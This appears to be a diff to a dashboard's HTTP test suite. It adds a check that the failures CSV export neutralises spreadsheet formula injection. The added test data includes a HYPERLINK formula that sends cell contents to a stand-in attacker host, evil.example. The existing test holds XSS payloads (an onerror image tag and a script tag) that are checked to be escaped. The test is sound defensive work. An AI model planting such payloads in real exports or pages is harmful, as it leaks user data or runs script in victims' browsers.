@@ -248,7 +248,8 @@ describe('dashboard (HTTP)', () => {
     it('error messages of the target and reasons typed by operators never become markup', async () => {
       const db = stack.ws.target();
       db.exec(
-        `CREATE TRIGGER no_delete BEFORE DELETE ON parents WHEN old.id = 1 BEGIN SELECT RAISE(ABORT, '<img src=x onerror=alert(1)>"'); END;`,
+        `CREATE TRIGGER no_delete BEFORE DELETE ON parents WHEN old.id = 1 BEGIN SELECT RAISE(ABORT, '<img src=x onerror=alert(1)>"'); END;
+         CREATE TRIGGER formula BEFORE DELETE ON parents WHEN old.id = 2 BEGIN SELECT RAISE(ABORT, '=HYPERLINK("http://evil.example/"&A1,"open")'); END;`,
       );
       db.close();
       const csrf = await operator.csrfOf('/ui/jobs/purge-parents/preview');
@@ -275,6 +276,10 @@ describe('dashboard (HTTP)', () => {
         '&quot;&gt;&lt;script&gt;alert(2)&lt;/script&gt;',
       );
       await operator.post('/ui/jobs/purge-parents/resume', { csrf });
+      // The CSV download: a message that a spreadsheet would run as a formula opens as text.
+      const csv = (await operator.get(`/ui/failures.csv?run=${id}`)).body;
+      expect(csv).toContain(`,2,SQLITE_CONSTRAINT_TRIGGER,"'=HYPERLINK(""http://evil.example/""&A1,""open"")",`);
+      expect(csv).not.toMatch(/,"?=/);
     });
   });
 
